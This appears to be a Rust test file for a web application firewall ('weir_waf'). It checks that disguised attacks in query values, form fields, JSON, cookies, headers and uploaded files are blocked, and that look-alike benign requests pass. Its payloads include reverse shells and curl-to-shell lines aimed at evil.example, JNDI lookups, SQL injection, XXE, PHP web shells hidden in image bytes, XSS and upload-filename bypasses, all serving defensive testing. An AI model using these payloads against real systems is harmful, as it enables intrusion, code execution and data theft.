//! Attacks that hide: behind an ordinary value, in long names, within other values, in files, in headers. And ordinary
//! requests that look similar.

use weir_waf::inspection::Verdict;

use crate::send::{Sent, judged, view};

const SQL: &str = "1' UNION SELECT password FROM users-- x";
/// The same with escapes of JSON.
const ESCAPED: &str = r"1\u0027 \u0055NION \u0053ELECT password \u0046ROM users-- x";

fn value(text: &str) -> Sent {
    Sent::query("/page", &[("x", text.as_bytes())])
}

fn field(text: &str) -> Sent {
    Sent::form("/page", &[("x", text.as_bytes())])
}

fn json(body: &str) -> Sent {
    Sent::post("/page", "application/json", body)
}

fn header(name: &str, value: &str) -> Sent {
    Sent::get("/").with(name, value)
}

/// A multipart form with one part.
fn part(disposition: &str, media_type: &str, content: &[u8]) -> Sent {
    part_and("multipart/form-data; boundary=B", disposition, media_type, content, "\r\n")
}

fn part_and(form: &str, disposition: &str, media_type: &str, content: &[u8], end: &str) -> Sent {
    let mut head = format!("--B\r\nContent-Disposition: form-data; {disposition}\r\n");
    if !media_type.is_empty() {
        head += &format!("Content-Type: {media_type}\r\n");
    }
    let tail = format!("\r\n--B--{end}");
    Sent::post("/upload", form, [head.as_bytes(), b"\r\n", content, tail.as_bytes()].concat())
}

fn check(cases: impl IntoIterator<Item = (String, Sent)>, is_denied: bool) {
    let view = view(&crate::builtin(), &[]);
    let wrong: Vec<String> = cases
        .into_iter()
        .map(|(name, sent)| (name, judged(&view, &sent)))
        .filter(|(_, verdict)| (*verdict != Verdict::Pass) != is_denied)
        .map(|(name, verdict)| format!("{name}: {verdict:?}"))
        .collect();
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

fn named<T: std::fmt::Display>(
    texts: impl IntoIterator<Item = T>,
    make: impl Fn(&str) -> Sent,
) -> Vec<(String, Sent)> {
    texts.into_iter().map(|text| (text.to_string(), make(&text.to_string()))).collect()
}

#[test]
fn commands_are_found_behind_any_value_and_separator() {
    let long = "a".repeat(300);
    let before = [
        "",
        "8.8.8.8",
        "a@b.example",
        &long,
        "http://a.example/b",
        "10:30",
        "a/b",
        "a,b",
        "é",
        "\"a\"",
    ];
    let separators = [";", "; ", "|", " | ", "||", "&&", " && ", "\n", "$(", "`"];
    let commands = [
        "curl http://evil.example/x|sh",
        "wget -q http://evil.example/x",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la /",
        "nc -e /bin/sh 192.0.2.1 4444",
        "ping -c 3 evil.example",
        "bash -c id",
        "python3 -c 'import os'",
        "nslookup x.evil.example",
        "rm -rf /tmp/x",
        "chmod 777 /tmp/x",
        "find /etc -name x",
        "powershell -enc SQBFAFgA",
        "/usr/bin/id",
        "echo a > /tmp/x",
        "grep -r password /etc",
        "sleep 5",
        "ps aux",
        "ipconfig /all",
    ];
    let mut cases = Vec::new();
    for before in before {
        for (separator, command) in
            separators.iter().flat_map(|it| commands.map(|command| (it, command)))
        {
            let end = match *separator {
                "$(" => ")",
                "`" => "`",
                _ => "",
            };
            cases.push(format!("{before}{separator}{command}{end}"));
        }
    }
    check(named(cases, field), true);
}

#[test]
fn commands_are_found_whose_names_a_shell_puts_together() {
    let attacks = [
        "c''url http://e/x",
        "8.8.8.8;c''url http://e/x",
        "8.8.8.8;c\"\"url -o /var/www/s.php http://e/s",
        "8.8.8.8;cu\\rl http://e/x",
        "8.8.8.8|w\\get http://e/x -O-|b''ash",
        "8.8.8.8;w\\hoami",
        "8.8.8.8;'id'",
        "8.8.8.8;\"i\"d",
        "8.8.8.8;\\id",
        "8.8.8.8&&un''ame -a",
        "8.8.8.8;n''c 1.2.3.4 4444 -e /b''in/s''h",
        "$(c''url http://e/x)",
        "`c''url http://e/x`",
        "8.8.8.8&who^ami",
        "8.8.8.8&\"curl\" http://e/x",
        "8.8.8.8;cu$@rl http://e/x",
        "8.8.8.8;/b??/cat /etc/p?sswd",
        "8.8.8.8;/???/c?rl http://e/x",
        "8.8.8.8;/bin/[c]at /home/x",
        "8.8.8.8;X=curl;$X http://e/x",
        "8.8.8.8;a=who;${a}ami",
        "8.8.8.8;bash<<<id",
        "8.8.8.8;eval \"$(printf cu)rl x\"",
    ];
    check(named(attacks, field), true);
    check(named(attacks, value), true);
    check(
        named(attacks, |text| {
            json(&format!("{{\"host\":{}}}", serde_json(&text.replace('\n', " "))))
        }),
        true,
    );
    check(
        named(
            [
                "O'Brien; don't; can't",
                "Rock 'n' Roll; \"cat\" food & 'dog' food",
                "nr;\"id\";\"name\"\n1;\"2\";\"ls\"",
                "he said: \"ls\" & more",
                "C:\\bin\\cat; C:\\temp\\new",
                "a & \\textbf{x} \\\\ b & \\cite{y}",
                "(\\d+)|\\w+|[^;]*",
                "x^2 & y^2; z^2",
                "$5 & $6; US$10",
                "what? (who?) *note* [see a/b/c?]",
                "it's; 'tis the season",
                "src/**/*.rs; /a/*/b",
            ],
            field,
        ),
        false,
    );
}

#[test]
fn lookups_are_found_however_long_their_names_are() {
    let key = |bytes: usize| format!("${{${{{}:-j}}ndi:ldap://e/a}}", "a".repeat(bytes));
    let texts = [
        key(3),
        key(110),
        key(5_000),
        format!("${{${{a.b/c!{}:-j}}ndi:ldap://e/a}}", "x".repeat(50)),
        "${j${zz:-n}di:ldap://e/a}".to_owned(),
        "${${lower:${lower:j}}ndi:ldap://e/a}".to_owned(),
        "${${:-j}${:-n}${:-d}${:-i}:ldap://e}".to_owned(),
        "${jndi${nagli:-:}ldap:${::-/}/e/a}".to_owned(),
        format!("${{${{{}:-${{{}:-j}}}}ndi:ldap://e/a}}", "q".repeat(120), "r".repeat(120)),
    ];
    check(named(&texts, field), true);
    check(named(&texts, |text| header("X-Api-Version", text)), true);
}

#[test]
fn attacks_within_values_are_found() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let keys: String = (0..1_500).map(|it| format!("\"k{it}\":{it},")).collect();
    let quoted = |text: &str| serde_json(text);
    let octal: String = SQL.bytes().map(|byte| format!("\\{byte:03o}")).collect();
    let graphql = format!("{{user(id:\"{ESCAPED}\"){{x}}}}");
    let fields = [
        object.clone(),
        format!(" \n[1,[{object}]]"),
        format!("\"{ESCAPED}\""),
        format!("{{id:'{ESCAPED}'}}"),
        format!("/**/{object}"),
        format!("{{{keys}\"id\":\"{ESCAPED}\"}}"),
        graphql.clone(),
        r#"{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.to_owned(),
        r#"{"a":"x\u003bcurl http://evil.example/x|sh"}"#.to_owned(),
        r#"{"user":{"\u0024ne":1}}"#.to_owned(),
        r#"{"\u005f_proto__":{"a":1}}"#.to_owned(),
        r#"{"file":"\u002fetc\u002fshadow"}"#.to_owned(),
    ];
    check(named(&fields, field), true);
    check(named(&fields[..3], value), true);
    let strings = [
        format!("{{\"body\":{}}}", quoted(&object)),
        format!("{{\"body\":{}}}", quoted(&format!("{{\"body\":{}}}", quoted(&object)))),
        format!("{{\"query\":{}}}", quoted(&graphql)),
    ];
    check(named(&strings, json), true);
    let cookies = [
        format!("id=\"{octal}\""),
        "id=\"1' UN\\ION SEL\\ECT pass\\word FR\\OM users-- x\"".to_owned(),
        format!("id={object}"),
        format!("id=j%3A{}", object.replace('"', "%22").replace('{', "%7B").replace('\\', "%5C")),
        "a=b; id=\"192.0.2.1;curl http://evil.example/x|sh\"; c=d".to_owned(),
        r#"a=b; id="x\073curl http://evil.example/x|sh"; c=d"#.to_owned(),
    ];
    check(named(&cookies, |text| header("Cookie", text)), true);
    check(
        named(
            [
                r#"{"id":1,"name":"O'Brien","tags":["a","b"],"text":"Hello \u00e9 world"}"#,
                r"C:\users\udo\x41",
                "[tag] a text",
                "\"Quoted\" text, and more",
                "{{ not JSON",
            ],
            field,
        ),
        false,
    );
    check(
        named(["pref=\"a b c\"; cart=\"[9\\054 11]\"; t=1", "cart=%7B%22a%22%3A1%7D"], |text| {
            header("Cookie", text)
        }),
        false,
    );
}

const ENTITY: &str =
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";

/// A text in EBCDIC, with these bytes for `!` and `[` of its code page.
fn ebcdic(text: &str, (mark, bracket): (u8, u8)) -> Vec<u8> {
    let signs = |byte: u8| match byte {
        b' ' => 0x40,
        b'<' => 0x4c,
        b'>' => 0x6e,
        b'?' => 0x6f,
        b'"' => 0x7f,
        b'=' => 0x7e,
        b'.' => 0x4b,
        b'/' => 0x61,
        b':' => 0x7a,
        b'&' => 0x50,
        b';' => 0x5e,
        b'!' => mark,
        b'[' => bracket,
        _ => bracket + 1,
    };
    let byte = |byte: u8| match byte {
        b'a'..=b'i' => byte - b'a' + 0x81,
        b'j'..=b'r' => byte - b'j' + 0x91,
        b's'..=b'z' => byte - b's' + 0xa2,
        b'A'..=b'I' => byte - b'A' + 0xc1,
        b'J'..=b'R' => byte - b'J' + 0xd1,
        b'S'..=b'Z' => byte - b'S' + 0xe2,
        b'0'..=b'9' => byte - b'0' + 0xf0,
        _ => signs(byte),
    };
    text.bytes().map(byte).collect()
}

#[test]
fn markup_within_values_is_read() {
    let references: String = SQL.bytes().map(|byte| format!("&#{byte};")).collect();
    let element = format!("<a>{references}</a>");
    let attribute = format!("<a b='{references}'/>");
    let part_of = |text: &[u8]| part("name=\"x\"", "", text);
    let texts = [element.clone(), attribute, references, format!("\u{a0}<a><![CDATA[{SQL}]]></a>")];
    check(named(&texts, field), true);
    check(named(&texts, value), true);
    check(named(&texts, |text| part_of(text.as_bytes())), true);
    check(named(&texts, |text| json(&format!("{{\"x\":{}}}", serde_json(text)))), true);
    let soap = |text: &str| Sent::post("/", "text/xml", format!("<s><![CDATA[{text}]]></s>"));
    check(named([&element], soap), true);
    for page in [(0x5a, 0xba), (0x4f, 0x4a)] {
        let document = ebcdic(ENTITY, page);
        let sent = Sent::form("/page", &[("x", &document)]);
        check([("form".to_owned(), sent), ("part".to_owned(), part_of(&document))], true);
    }
    check(
        named(
            [
                "O&#39;Brien &amp; sons &#8212; a &#60; b",
                "<p>It&#39;s &#8220;quoted&#8221;; who&#39;s there?</p>",
                "Lo\u{a7}a",
                "<note><![CDATA[Fish & chips]]></note>",
            ],
            field,
        ),
        false,
    );
}

#[test]
fn json_is_found_wherever_it_stands() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let mut deep = object.clone();
    for depth in 2..=8 {
        deep = format!("{{\"k\":{}}}", serde_json(&deep));
        let sent = [("json", json(&deep)), ("field", field(&deep)), ("value", value(&deep))];
        check(sent.map(|(name, sent)| (format!("{name} {depth}"), sent)), true);
    }
    let encoded: String = object.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let twice = encoded.replace('%', "%25");
    let named = |name: &str| Sent::form("/page", &[(name, b"1")]);
    check(
        [
            ("name", named(&object)),
            ("name of an element", named(&format!("a[{object}]"))),
            ("name in the query", Sent::query("/page", &[(&object, b"1")])),
            ("cookie", header("Cookie", &format!("a={encoded}"))),
            ("cookie, encoded twice", header("Cookie", &format!("a={twice}"))),
            ("referrer", header("Referer", &format!("https://a.example/?x={encoded}"))),
            ("no-break space", field(&format!("\u{a0}{object}"))),
        ]
        .map(|(name, sent)| (name.to_owned(), sent)),
        true,
    );
    check(
        [
            ("name", named("items[0][name]")),
            ("quoted name", named("a[\"b\"]")),
            ("braces", named("{a}")),
            ("referrer", header("Referer", "https://a.example/?x=%7B%22a%22%3A%22b%5Cn%22%7D")),
        ]
        .map(|(name, sent)| (name.to_owned(), sent)),
        false,
    );
}

#[test]
fn arguments_among_binary_bytes_are_judged_to_their_end() {
    let query = "' UNION SELECT password FROM users-- x";
    let before: [&[u8]; 6] =
        [b"", b"%c3%a91", b"\xc3\xa91", b"\x80", b"%00", &b"%80\xff".repeat(150)];
    for mark in
        [&b"\xff\xd8\xff"[..], b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", b"PK\x03\x04", b"\x1f\x8b\x08"]
    {
        for before in before {
            let body = [mark, b"&id=", before, query.as_bytes(), b"\xff\x01\x02"].concat();
            for media_type in ["image/jpeg", "application/octet-stream"] {
                let sent = Sent::post("/", media_type, body.clone());
                check([(body.escape_ascii().to_string(), sent)], true);
            }
        }
    }
}

/// A text as a string of JSON.
fn serde_json(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn values_within_values_keep_the_name_of_the_outer_value() {
    let mut paths = vec![];
    for (name, text) in [
        ("x", "SecRuleUpdateTargetByTag attack-sqli !ARGS:x"),
        ("y", "SecRuleUpdateTargetByTag attack-sqli !ARGS:y"),
    ] {
        let path =
            std::env::temp_dir().join(format!("weir-waf-{}-{name}.conf", std::process::id()));
        std::fs::write(&path, text).expect("a file");
        paths.push(path);
    }
    let body = format!("{{\"id\":\"{ESCAPED}\"}}");
    let of = |last: &std::path::Path| {
        let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
        let all = weir_waf::builtin::paths().into_iter();
        let names = all.map(|it| folder.join(it.trim_start_matches("builtin/")));
        let rules = crate::data::compiled(names.chain([last.to_owned()]).collect());
        judged(&view(&rules, &[]), &field(&body))
    };
    assert_eq!(of(&paths[0]), Verdict::Pass);
    assert_ne!(of(&paths[1]), Verdict::Pass);
    paths.iter().for_each(|path| std::fs::remove_file(path).expect("the file"));
}

#[test]
fn attacks_in_files_and_their_names_are_found() {
    let object = format!("{{\"id\":\"{ESCAPED}\"}}");
    let photo =
        [b"\xff\xd8\xff\xe0".to_vec(), vec![0xaa; 200_000], b"<?php echo 1;".to_vec()].concat();
    let decoys =
        [b"\xff\xd8<?printx><cfqueryx:><%abcdefghij>".repeat(9), b"<?php f();".to_vec()].concat();
    let mut cases = vec![];
    let mut add = |disposition: &str, media_type: &str, content: &[u8]| {
        let name = format!("{disposition} {media_type} {}", content.len());
        cases.push((name, part(disposition, media_type, content)));
    };
    for media_type in
        ["application/json", "application/octet-stream", "", "application/vnd.api+json"]
    {
        add("name=\"meta\"; filename=\"blob\"", media_type, object.as_bytes());
    }
    add("name=\"meta\"; filename=\"a.png\"", "application/json", object.as_bytes());
    add("name=\"meta\"; filename=\"blob\"", "text/plain", SQL.as_bytes());
    add("name=\"meta\"; filename=\"blob\"", "text/xml", format!("<a>{SQL}</a>").as_bytes());
    add(
        "name=\"f\"; filename=\"a.xml\"",
        "text/xml",
        b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    );
    let (sql, xxe) = (format!("<a><id>{SQL}</id></a>"), "<!DOCTYPE a SYSTEM 'http://e/x.dtd'><a/>");
    let include =
        "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/x'/></a>";
    let utf_7 = "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a";
    for name in ["a.xml", "blob", "a.svg", "a.bin"] {
        let disposition = format!("name=\"f\"; filename=\"{name}\"");
        add(&disposition, "application/octet-stream", xxe.as_bytes());
        add(&disposition, "text/xml", include.as_bytes());
        add(&disposition, "text/xml", utf_7.as_bytes());
        for page in [(0x5a, 0xba), (0x4f, 0x4a)] {
            add(&disposition, "text/xml", &ebcdic(ENTITY, page));
        }
        for is_little in [true, false] {
            let units = ENTITY.encode_utf16();
            let of = |it: u16| if is_little { it.to_le_bytes() } else { it.to_be_bytes() };
            add(&disposition, "", &units.flat_map(of).collect::<Vec<u8>>());
        }
    }
    add("name=\"f\"; filename=\"a.xml\"", "text/xml", sql.as_bytes());
    add("name=\"f\"; filename=\"a.xml\"", "", sql.as_bytes());
    add("name=\"f\"; filename=\"blob\"", "text/xml; charset=utf-7", b"+ADw-a");
    for blanks in ["\u{a0}", "\u{b}", "\u{200b}\u{3000}"] {
        add("name=\"f\"; filename=\"blob\"", "", format!("{blanks}{object}").as_bytes());
        add("name=\"f\"; filename=\"blob\"", "text/xml", format!("{blanks}{sql}").as_bytes());
    }
    for (name, content) in [
        ("x.png", &b"<?php system($_GET['c']); ?>"[..]),
        ("x.gif", b"GIF89a;\n<?php system($_GET['c']); ?>"),
        ("x.jpg", b"\xff\xd8<?=`$_GET[0]`?>\xff\xd9"),
        ("x.jpg", &photo),
        ("x.jpg", b"\xff\xd8<%@ page import=\"java.util.*\" %>"),
        ("x", b"GIF89a<?php system(1); ?>"),
        ("x.png", b"\x89PNG<?if(1)system($_GET[0]);?>"),
        ("x.gif", b"GIF89a<?die(`$_GET[0]`);?>"),
        ("x.gif", b"GIF89a<?const A=\"x\";system(A);?>"),
        ("x.gif", b"GIF89a<?#\nsystem(1);?>"),
        ("x.png", b"<?xml:system($_GET[0]);?>"),
        ("x.jpg", b"\xff\xd8<%\0eval request(\"c\")%>"),
        ("x.jpg", &decoys),
        ("x.html", b"<script>alert(1)</script>"),
        ("x.png", b" <html><script>alert(1)</script></html>"),
        ("x.html", b"<p>a</p><img src=x onerror=alert(1)>"),
        (
            "x.svg",
            b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"f()\"/>",
        ),
        ("x.svg", b"<svg><a href=\"javascript:alert(1)\">x</a></svg>"),
        ("x.xhtml", b"<html><script>alert(1)</script></html>"),
    ] {
        add(&format!("name=\"f\"; filename=\"{name}\""), "", content);
    }
    for name in [
        SQL,
        "<img src=x onerror=alert(1)>.png",
        "a.png;curl http://evil.example|sh",
        "$(id).png",
        "{{7*7}}.png",
        "${jndi:ldap://e/a}.png",
        "shell.php::$DATA",
        "shell.php:x",
        "shell.asp;.jpg",
        "shell.php.",
        "shell.php%00.png",
        "shell.php/",
        "shell.pHp5",
        "shell.php.jpg",
        "web.config",
        "shell.php:$i30:$INDEX_ALLOCATION",
        "shell.shtml",
        "=?utf-8?B?c2hlbGwucGhw?=",
        "shell.p\u{200b}hp",
        "shell.\u{ff30}\u{ff28}\u{ff30}",
        ".ssh/authorized_keys",
    ] {
        add(&format!("name=\"f\"; filename=\"{name}\""), "", b"x");
    }
    add("name=\"f\"; filename=\"x.png\"; filename*=utf-8''shell.php", "", b"x");
    add("name=\"f\"; filename*=utf-8''a.png", "", format!("\x01{SQL}").as_bytes());
    check(cases, true);
}

/// A body that is a file, with these headers.
fn upload(method: &'static str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Sent {
    let sent = Sent { method, ..Sent::get(path) };
    let sent = headers.iter().fold(sent, |sent, (name, value)| sent.with(name, value));
    Sent { body: body.to_vec(), ..sent }
}

#[test]
fn files_that_are_bodies_are_judged_like_parts() {
    let image = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    let far = |code: &[u8]| [&image[..], &[0xaa; 100_000], code, &[0; 300]].concat();
    let php = b"<?php system($_GET['c']); ?>";
    let png = [("Content-Type", "image/png")];
    let octets = [("Content-Type", "application/octet-stream")];
    let mut attacks = vec![];
    for (types, code) in
        [(&png[..], &php[..]), (&octets, php), (&[], php), (&png, b"<?if(1)system($_GET[0]);?>")]
    {
        attacks.push(upload("PUT", "/up/x.png", types, &far(code)));
        attacks.push(upload("POST", "/up", types, &far(code)));
    }
    let unknown = [&b"\x81\x01".repeat(1_000), &php[..]].concat();
    attacks.push(upload("PUT", "/up/x.png", &[], &unknown));
    attacks.push(upload("POST", "/up", &[("X-File-Name", "x.jpg")], &unknown));
    attacks.push(upload(
        "POST",
        "/up",
        &[("Content-Disposition", "x; filename=\"a.gif\"")],
        &unknown,
    ));
    attacks.push(upload("PUT", "/x.mp4", &[("Content-Type", "video/mp4")], &unknown));
    // What begins like EBCDIC may be other bytes.
    attacks.push(upload("PUT", "/up/x.png", &[], &[&[0x81; 2_000], &php[..]].concat()));
    attacks.push(upload("PUT", "/x", &[], &[&b"a\0".repeat(1_000), &php[..]].concat()));
    for (name, value) in [
        ("Content-Disposition", "attachment; filename=\"shell.php\""),
        ("Content-Disposition", "attachment; filename=shell.php"),
        ("Content-Disposition", "attachment; filename*=utf-8''shell.p%68p"),
        ("Content-Disposition", "attachment; filename=\"../x.png\""),
        ("X-File-Name", "shell.php"),
        ("X-Filename", "../../x.png"),
        ("X-Filename", ".htaccess"),
        ("Slug", "shell.jsp"),
        ("Content-Location", "/shell.php"),
        ("Destination", "http://shop.example/shell.php"),
        ("Destination", "/dav/shell.asp;.jpg"),
        ("Destination", "/../../etc/x"),
    ] {
        let method = if name == "Destination" { "MOVE" } else { "POST" };
        attacks.push(upload(method, "/up", &[png[0], (name, value)], &image));
    }
    for path in [
        "/shell.php",
        "/up/shell.jsp%20",
        "/up/shell.aspx;.jpg",
        "/shell.JSP",
        "/fileserver/a.jsp",
        "/a.php::$DATA",
        "/x/web.config",
    ] {
        attacks.push(upload("PUT", path, &octets, b"hello"));
        attacks.push(upload("PUT", path, &[], &image));
    }
    let shown = |all: Vec<Sent>| all.into_iter().map(|sent| (format!("{sent:.200?}"), sent));
    check(shown(attacks), true);
    let name = |value| [png[0], ("Content-Disposition", value)];
    check(
        shown(vec![
            upload("PUT", "/up/x.png", &png, &far(b"")),
            upload(
                "POST",
                "/wp-json/wp/v2/media",
                &name("attachment; filename=\"photo.jpg\""),
                &image,
            ),
            upload("POST", "/up", &[png[0], ("X-File-Name", "my.php-notes.png")], &image),
            upload("PUT", "/remote.php/dav/files/a/b.png", &png, &image),
            upload("MOVE", "/remote.php/dav/a", &[("Destination", "/remote.php/dav/b.txt")], b""),
            upload("PUT", "/api.php/items/1", &octets, b"hello"),
            upload("PUT", "/api.php", &[("Content-Type", "application/json")], b"{\"a\":1}"),
            upload(
                "PUT",
                "/x.php",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                b"a=1",
            ),
            upload("DELETE", "/shell.php", &[], b""),
            upload("GET", "/x.php", &[("Content-Disposition", "inline")], b""),
            upload("PUT", "/backup.tar", &octets, &[&unknown[..], php].concat()),
            upload(
                "POST",
                "/rpc",
                &[("Content-Type", "application/x-protobuf")],
                b"\x0a\x03abc\x10\x01",
            ),
        ]),
        false,
    );
}

#[test]
fn attacks_in_headers_are_found() {
    let attacks = [
        SQL,
        "x' OR '1'='1",
        "1' AND SLEEP(5)-- -",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "$(cat /etc/passwd)",
        "x;curl http://evil.example/x|sh",
        "x|id",
        "() { :;}; /bin/bash -c id",
        "<?php system($_GET[0]);?>",
        "{{7*7}}",
    ];
    let names = [
        "Referer",
        "User-Agent",
        "X-Forwarded-Host",
        "X-Forwarded-For",
        "X-Custom",
        "X-Api-Key",
        "Origin",
        "From",
        "True-Client-IP",
        "Accept-Language",
        "Authorization",
    ];
    let cases = names.iter().flat_map(|name| {
        attacks.iter().map(move |attack| (format!("{name}: {attack}"), header(name, attack)))
    });
    check(cases, true);
}

#[test]
fn files_code_and_delays_in_values_are_found() {
    check(
        named(
            [
                "data:text/plain,<?=1?>",
                "data:,<?php phpinfo();",
                "data:text/plain;base64,PD9waHAgc3lzdGVtKDEpOw==",
                "data:;base64,PD89YGlkYDs=",
                "data:text/plain;base64,YWI8P3BocCBzeXN0ZW0oMSk7",
                "/WEB-INF/web.xml",
                "a/../web-inf/classes/x.class",
                ".git/config",
                "/app/.env",
                "../.env",
                "../config.php",
                "..\\config.php",
                "../app/settings.py",
                "./../config.php",
                "../config.php%00.png",
                "..//config.php",
                "../conf/server.xml",
                "../data.sqlite",
                "{{[0]|reduce('system','id')}}",
                "{{['id']|map('system')|join}}",
                "{{{'a':'id'}|map('system')}}",
                "{{ ['id']\n|\nsort(\"passthru\") }}",
                "{%set a=['id']|map('system')%}",
                "<%= elem(System.shell(\"id\"), 0) %>",
                "<%= System.cmd(\"id\",[]) %>",
                "<%= :os.cmd('id') %>",
                "<%= File.read!(\"/etc/passwd\") %>",
                "<%= `id` %>",
                "<% Code.eval_string(\"1\") %>",
                "1);begin user_lock.sleep(5); end",
                "1;begin dbms_lock.sleep(5); end;--",
                "1 and(select+1)>0waitfor/**/delay'0:0:10",
                "1waitfor delay'0:0:5'",
                "1)waitfor/**/time'10:10'",
                "1 or pg_sleep(5)--",
                "0union select 1,2",
                "1 and randomblob(500000000)",
            ],
            field,
        ),
        true,
    );
}

#[test]
fn ordinary_requests_that_look_similar_pass() {
    let iframe = |src: &str| {
        format!(
            "<p>See</p><iframe width=\"560\" src=\"{src}\" title=\"A video\" allow=\"autoplay; fullscreen\" allowfullscreen></iframe>"
        )
    };
    let texts = [
        "Home | Type - Example | date".to_owned(),
        "We met at noon; who knows what time it was; type \"yes\" to go on.".to_owned(),
        "Dear all,\n\nless is more.\nfind \"Nemo\" is a film.\nat https://example.com you see it"
            .to_owned(),
        "https://example.com/?a=1&id=5&sort=/a&host=x.y&type=a/b&set=1".to_owned(),
        "https://example.com/?a=b&id".to_owned(),
        "Server=db;Database=x;User Id=sa;Password=p;".to_owned(),
        "https://avatars.example.com/u/6752317?".to_owned(),
        iframe("https://www.youtube.com/embed/x?si=abc"),
        iframe("https://player.vimeo.com/video/76979871"),
        "Any SQL conditional expression (returning boolean) is fine.".to_owned(),
        "see [routing](../../../reference/routing.md)".to_owned(),
        "- [a](../../../../a.md)\n- ![b](../../b.png)".to_owned(),
        "<a href=\"../../../index.html\">x</a>".to_owned(),
        "import x from \"../../../lib/x\"".to_owned(),
        "price > 100 and price < 200".to_owned(),
        "age >= 18 and age <= 65".to_owned(),
        "temperature < 10 or temperature > 30".to_owned(),
        "100 % 2F".to_owned(),
        "group%2Fproject".to_owned(),
        "A".repeat(70_000),
    ];
    check(named(&texts, field), false);
    let objects: Vec<_> =
        (0..1_000).map(|id| format!("{{\"id\":{id},\"n\":\"x{id}\",\"z\":1}}")).collect();
    let long = format!("{{\"img\":\"data:image/png;base64,{}\"}}", "iVBORw0KGgo".repeat(20_000));
    check(named([format!("[{}]", objects.join(",")), long], json), false);
    check(
        [
            ("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; WOW64; SLCC2; .NET CLR 2.0.50727; .NET4.0C)"),
            ("User-Agent", "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)"),
            ("Authorization", "Digest username=\"M\", realm=\"r@h.example\", nonce=\"dcd98b\", uri=\"/d/i.html\", response=\"6629\""),
            ("Sec-CH-UA", "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
            ("If-None-Match", "W/\"5e1-abc\", \"x--y\""),
            ("Forwarded", "for=\"[2001:db8::1]\";proto=https;by=203.0.113.43"),
            ("Referer", "https://www.example.com/search?q=O'Brien+and+sons"),
            ("Link", "<https://a.example/x>; rel=\"next\""),
        ]
        .map(|(name, value)| (format!("{name}: {value}"), header(name, value))),
        false,
    );
}

#[test]
fn contents_of_editors_and_interfaces_pass() {
    let frame =
        |src: &str| format!("<iframe width=\"560\" src=\"{src}\" allowfullscreen></iframe>");
    let embedded = [
        "https://www.google.com/maps/embed?pb=!1m18!1m12",
        "https://www.youtube.com/embed/dQw4w9WgXcQ?si=abc",
        "https://player.vimeo.com/video/76979871?badge=0&amp;autopause=0",
        "https://open.spotify.com/embed/track/1",
    ]
    .map(|src| format!("{{\"a\":{{\"html\":{}}}}}", serde_json(&frame(src))));
    check(named(&embedded, field), false);
    check(named(&embedded, json), false);
    let texts = [
        "<meta charset=\"utf-8\"><b style=\"font-weight:normal;\" id=\"docs-internal-guid-x\"><p dir=\"ltr\">Hi</p></b>",
        "<style type=\"text/css\">p.p1 {margin: 0.0px; font: 12.0px Helvetica}</style><p class=\"p1\">Hi</p>",
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"><style type=\"text/css\" style=\"display:none;\"><!-- P {margin-top:0;} --></style></head><body dir=\"ltr\">Hi</body></html>",
        "<p class=\"MsoNormal\" style=\"mso-margin-top-alt:auto\">Hi<o:p></o:p></p><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->",
        "<style><!-- /* Font Definitions */ @font-face {font-family:Calibri; panose-1:2 15;} @page WordSection1 {size:8.5in 11in;} --></style>",
        "<p><a href=\"javascript:void(0)\">x</a> <a href='javascript:;'>y</a></p>",
        "javascript:void(0)",
        "I'd like to order 5 or more = discount",
        "smb://nas/share",
        "SELECT is a keyword",
    ];
    check(named(texts, field), false);
    check(named(texts, |text| json(&format!("{{\"body\":{}}}", serde_json(text)))), false);
    let spans =
        "{\"resourceSpans\":[{\"spans\":[{\"value\":\"SELECT * FROM users WHERE id = ?\"}]}]}";
    let queries = [
        Sent::query("/api/x", &[("filters[name][$eq]", b"a"), ("populate", b"*")]),
        Sent::query("/classes/x", &[("where", b"{\"score\":{\"$gte\":1000,\"$lte\":3000}}")]),
        json("{\"filter\":{\"age\":{\"$gt\":5},\"$or\":[{\"a\":1},{\"b\":{\"$in\":[1,2]}}]}}"),
        Sent::post("/v1/traces", "application/json", spans),
    ];
    check(queries.into_iter().map(|sent| (format!("{sent:.300?}"), sent)), false);
}

#[test]
fn attacks_like_contents_of_editors_are_found() {
    check(
        named(
            [
                "<iframe src=\\\"https:evil\\\"></iframe>",
                "<iframe src=\"//evil.example/\"></iframe>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                "<meta http-equiv='Set-Cookie' content='a=b'>",
                "<meta charset=\"utf-7\">",
                "<meta content=\"0;javascript:alert(1)\" http-equiv=refresh>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>a{background:url(https://evil.example/x)}</style>",
                "<style>*{x:expression(alert(1))}</style>",
                "<style>*{x:exp/**/ression(alert(1))}</style>",
                "<style>p{}",
                "<style onload=alert(1)>p{}</style>",
                "<style>p{}</style><script>alert(1)</script>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--[if gte IE 4]><img src=x onerror=alert(1)><![endif]-->",
